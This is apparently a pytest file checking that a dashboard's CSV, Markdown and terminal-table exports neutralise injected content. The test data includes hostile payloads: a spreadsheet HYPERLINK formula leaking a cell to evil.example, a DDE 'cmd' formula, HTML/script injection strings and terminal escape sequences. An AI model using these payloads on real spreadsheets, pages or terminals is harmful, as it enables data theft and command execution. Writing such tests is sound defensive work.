"""Exports stay data in other programs: CSV in spreadsheets, Markdown in renderers, tables in terminals."""

from __future__ import annotations

import csv
import hashlib
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd

from cache.store import Store
from dashboard import exports
from tests.pipeline_helpers import cli, write_image

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
]


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def test_csv_downloads_neutralise_formulas_and_keep_numbers() -> None:
    df = pd.DataFrame(
        {
            "model": [*FORMULAS, "openai:gpt-4o", "-0.25", "'quoted"],
            "delta": [-1.5, -2.0, 3.0, -4.25, 0.0, 1e-5, -7.0, -0.5, 2.0],
            "=header": ["x"] * 9,
        }
    )
    rows = _cells(exports.to_csv(df))
    assert rows[0] == ["model", "delta", "'=header"]
    texts = [r[0] for r in rows[1:]]
    # a CR inside a text cell becomes a (quoted) newline, so every reader splits rows alike
    assert texts[: len(FORMULAS)] == ["'" + f.replace("\r", "\n") for f in FORMULAS]
    assert texts[len(FORMULAS) :] == ["openai:gpt-4o", "-0.25", "''quoted"]  # a plain number stays a number
    assert [float(r[1]) for r in rows[1:]] == list(
        df["delta"]
    )  # numeric column untouched: "-1.5", not "'-1.5"
    assert rows[1][1] == "-1.5"


def test_manifest_csv_is_spreadsheet_safe_and_reads_back_exactly(tmp_path: Path) -> None:
    source = '=HYPERLINK("evil.example","x")'
    data = tmp_path / "data"
    for modality in ("@fundus", "fundus"):
        write_image(data / modality / "real" / "-1+1.png", seed=1)
        write_image(data / modality / "synthetic" / source / "img.png", seed=2, smooth=True)
    manifest = tmp_path / "m.csv"
    cli("ingest", "scan", str(data), "--out", str(manifest), "--no-audit")
    cells = [c for row in _cells(manifest.read_bytes())[1:] for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert "'@fundus" in cells and f"'{source}" in cells
    from ingest.manifest import read_manifest

    rows = read_manifest(manifest)
    assert {(r.modality, r.source) for r in rows} == {
        ("@fundus", ""),
        ("@fundus", source),
        ("fundus", ""),
        ("fundus", source),
    }
    assert all((tmp_path / r.image_path).is_file() for r in rows)  # every path as on disk


CODE_SPAN = re.compile(r"^(`+) .* \1$")


def _md_cells(line: str) -> list[str]:
    return [c.strip() for c in re.split(r"(?<!\\)\|", line)[1:-1]]


def test_markdown_export_cells_render_as_text() -> None:
    hostile = [
        "<img src=x onerror=alert(1)>",
        "[click](http://evil.example)",
        "![pic](http://evil.example/p.png)",
        "see http://evil.example now",
        "www.evil.example",
        "<script>alert(1)</script>",
        "a|b`c`",
        "[ref]: http://evil.example",
        "x&#60;b&#62;y",
    ]
    md = exports.to_markdown(pd.DataFrame({"source": hostile, "n": range(len(hostile))}))
    lines = md.splitlines()
    for line, text in zip(lines[2:], hostile, strict=True):
        cell = _md_cells(line)[0]
        assert CODE_SPAN.match(cell), (text, cell)  # inside a code span nothing renders: no tag, no link
        assert cell.count("|") == cell.count("\\|")
    plain = exports.to_markdown(pd.DataFrame({"Accuracy [95% CI]": ["0.583 [0.320, 0.807]"]}))
    assert "| 0.583 [0.320, 0.807] |" in plain and "| Accuracy [95% CI] |" in plain


ESCAPES = "\x1b[31mRED\x1b[0m\x1b]0;pwned\x07\x1b[2J\u202eevil\x07"


def test_printed_tables_strip_terminal_escapes(tmp_path: Path) -> None:
    data = tmp_path / "data"
    write_image(data / f"fundus{ESCAPES}" / "real" / "a.png", seed=1)
    write_image(data / f"fundus{ESCAPES}" / "synthetic" / f"gan{ESCAPES}" / "b.png", seed=2, smooth=True)
    proc = cli("ingest", "scan", str(data), "--out", str(tmp_path / "m.csv"))
    store = Store(tmp_path / "store")
    sha = hashlib.sha256(b"x").hexdigest()
    store.append(
        [
            {
                "key": sha,
                "run_id": "r",
                "created_at": datetime(2026, 1, 1, tzinfo=UTC),
                "provider": "compat",
                "model": f"compat:{ESCAPES}@http://h/v1",
                "prompt_id": "p",
                "prompt_sha256": sha,
                "prompt_text": "p",
                "image_sha256": sha,
                "modality": f"fundus{ESCAPES}",
                "truth": "real",
                "repeat": 0,
                "status": "ok",
                "label": "real",
                "raw_text": "Real.",
            }
        ]
    )
    outputs = [proc.stdout + proc.stderr]
    for command in ("stats", "metrics", "methods"):
        run = cli("cache", "--store", str(store.root), command)
        outputs.append(run.stdout + run.stderr)
    for text in outputs:
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text), repr(
            text[:300]
        )
        assert "RED" in text  # the visible characters stay
